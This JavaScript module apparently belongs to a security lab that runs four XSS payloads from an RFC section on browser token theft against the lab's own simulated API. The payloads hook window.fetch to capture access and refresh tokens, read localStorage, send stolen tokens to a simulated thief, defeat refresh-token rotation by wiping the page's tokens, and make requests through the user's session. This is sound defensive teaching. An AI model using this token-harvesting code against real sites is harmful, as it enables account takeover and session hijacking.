/* Script injected into this page: the four payloads of RFC 10017 §5.1 (BCP 212), run here, with this page's rights. What
   it sends away, the attacker uses from elsewhere. */

import { exclusively, note } from "./actions.js";
import { call, lab, readableCookie } from "./api.js";
import { renew, restore, send, signIn } from "./clients.js";
import { duration, json, lifetime } from "./format.js";
import { decode } from "./jwt.js";
import { whose } from "./moment.js";
import { acting, BOUND, pageNow, RENEWING, state } from "./state.js";

const TOKENS = ["accessToken", "refreshToken"];
const genuine = window.fetch;

/** Whatever the page sends or is sent goes through here, and to the attacker; returns what it has, and its end. */
function listen() {
  const found = {};
  const keep = (body) => TOKENS.forEach((name) => body?.[name] && (found[name] = body[name]));
  window.fetch = async (url, options) => {
    const [, token] = /^(?:Bearer|DPoP) (.+)$/.exec(options?.headers?.Authorization ?? "") ?? [];
    keep({ accessToken: token, ...json(options?.body ?? "") });
    const response = await genuine(url, options);
    keep(json(await response.clone().text()));
    return response;
  };
  return [found, () => (window.fetch = genuine)];
}

/** What lies about: localStorage, cookies that script may read, and this page's own memory. */
function lookAround(mode) {
  const found = {};
  for (const name of TOKENS) {
    const token = localStorage.getItem(`lab.${mode}.${name}`) ?? state.holds[mode][name];
    if (token) found[name] = token;
  }
  return found;
}

const elsewhere = (mode, what, clock, tokens = {}) => lab("thief", { mode, call: what, clock: state.offset + clock, ...tokens });
const names = (found) => TOKENS.filter((name) => found[name]).join(" and ");
/** How long a token is good for: its own `exp` says it, or, where it says nothing by itself, the session behind it. */
function left(token) {
  const ends = decode(token).claims?.exp;
  return ends ? `for ${duration(ends - pageNow())}, whatever anybody does` : `until its owner signs out, ${lifetime(state.switches.sessionAbsoluteSeconds)} at most`;
}
const HTTPONLY = "HttpOnly: no script can read it, and what can't be read can't leave.";
const nothing = { won: false, what: "nothing to take", why: HTTPONLY };

/** The page's own tokens are gone, and whoever was signed in is not any more. */
function lose(mode) {
  for (const name of TOKENS) localStorage.removeItem(`lab.${mode}.${name}`);
  restore(mode);
  state.holds[mode].as = null;
}

/** 5.1.1: read the tokens once, send them away. The page goes on as before. */
async function once(mode) {
  const found = lookAround(mode);
  if (!names(found)) return { ...nothing, why: `${HTTPONLY} It saw only: ${document.cookie.split("; ").map((pair) => pair.split("=")[0]).join(", ") || "nothing"}.` };
  await elsewhere(mode, "handed", 0, found);
  const used = await elsewhere(mode, "me", 0);
  const what = `took ${names(found)}: ${used.status}`;
  if (!found.refreshToken) return { won: used.status < 400, what, why: `In ${left(found.accessToken)}.` };
  const renewed = await elsewhere(mode, "refresh-token", 0);
  if (used.status >= 400 && renewed.status >= 400) return { won: false, what, why: `${used.code}, and when it would renew, too: both name a key, and no script can read that.` };
  const body = { refreshToken: found.refreshToken };
  const owner = await call(mode, "POST", "refresh-token", { body, headers: { "X-Lab-Clock": `+${state.offset + 61}` } });
  const again = await elsewhere(mode, "refresh-token", 62);
  const ended = again.status >= 400;
  if (owner.status >= 400) lose(mode);
  return { won: true, what, why: ended
    ? `It renewed; the owner renewed a minute later: ${owner.status} ${owner.code}, and the thief too: ${again.status} ${again.code}. Rotation noticed: what is left is one access token.`
    : `It renewed, and the owner renewed a minute later: ${owner.status}. Nobody noticed.` };
}

/** 5.1.2: stay, and take each token that comes; then keep the page from using the last one. */
async function stay(mode) {
  const [heard, stop] = listen();
  try {
    if (RENEWING.includes(mode)) for (let n = 0; n < 2; n++) await renew(mode);
    await send(mode, "GET", "me");
  } finally {
    stop();
  }
  if (!names(heard)) return nothing;
  lose(mode); // the page asks to sign in again, and nobody thinks anything of it
  await elsewhere(mode, "handed", 0, heard);
  if (!heard.refreshToken) return { won: true, what: `took each ${names(heard)}`, why: `While the page is open, always the newest; then in ${left(heard.accessToken)}.` };
  const later = [];
  for (const clock of [1000, 86_400, 6 * 86_400]) later.push((await elsewhere(mode, "refresh-token", clock)).status);
  const won = later.every((status) => status < 400);
  if (!won) return { won, what: `refused: ${later.join(", ")}`, why: "The page lost its tokens, so the thief alone had the last refresh token, without the key that it names: after 17 min, 1 d, 6 d." };
  return { won, what: "rotation defeated",
    why: `The page lost its tokens, so the last refresh token was used by the thief alone: ${later.join(", ")} after 17 min, 1 d, 6 d. No reuse, so nothing to notice, up to ${lifetime(state.switches.refreshAbsoluteSeconds)}.` };
}

/** 5.1.3: have the browser ask for new tokens, and look for them in the answer. */
async function acquire(mode) {
  if (!RENEWING.includes(mode)) return { won: false, what: "nothing to ask for", why: "No call of this mode gives a new credential without a password." };
  const [heard, stop] = listen();
  const answer = await renew(mode).finally(stop);
  if (!heard.accessToken) return { won: false, what: `${answer.status}, nothing to read`, why: "The answer comes by the carrier that the login chose: the new tokens are in HttpOnly cookies." };
  await elsewhere(mode, "handed", 0, { accessToken: heard.accessToken });
  const used = await elsewhere(mode, "me", 0);
  const worth = used.status < 400 ? `good elsewhere ${left(heard.accessToken)}; as often as it asks` : "which is good nowhere else: it names this page's key";
  return { won: used.status < 400, what: `a new token: ${used.status}`, why: `refresh-token answers script with an access token, ${worth}.` };
}

/** 5.1.4: nothing is taken. The browser sends what the script wants sent. */
async function proxy(mode) {
  const rode = await send(mode, "PATCH", "profile", { displayName: "changed by injected script" });
  const how = BOUND.includes(mode) ? "the page's own token, and its key, which signs for whoever runs here: while the page is open, it acts as you"
    : state.holds[mode].accessToken ? "the page's own token" : `the browser's cookie, and the CSRF token that it read (${readableCookie("csrftoken").slice(0, 6)}…)`;
  return { won: rode.status < 400, what: `${rode.status < 400 ? "worked" : "refused"}: ${rode.status} ${rode.code}`.trim(), why: `With ${how}: not to be told from the page.` };
}

export const PAYLOADS = {
  once: { section: "5.1.1", title: "Single-execution token theft", does: "It reads the tokens once and sends them away; the page goes on.", run: once },
  stay: { section: "5.1.2", title: "Persistent token theft", does: "It stays and takes each new token; then it keeps the page from using the last.", run: stay },
  acquire: { section: "5.1.3", title: "New tokens, acquired and extracted", does: "It has the browser ask for new tokens, and reads the answer.", run: acquire },
  proxy: { section: "5.1.4", title: "Requests sent by the user's browser", does: "It takes nothing: it calls PATCH profile from here.", run: proxy },
};

export const inject = (name) =>
  exclusively(async () => {
    const { title, run } = PAYLOADS[name];
    const found = {};
    for (const mode of acting()) {
      if (!state.holds[mode].as) await signIn(mode, state.person);
      found[mode] = { ...(await run(mode)), carrier: state.holds[mode].carrier };
    }
    await note(`XSS: ${title.toLowerCase()}`, "xss");
    state.xss = { ...state.xss, [name]: { found, name: state.truth[whose(acting()[0])]?.account.displayName } };
  }, "Injected script runs");
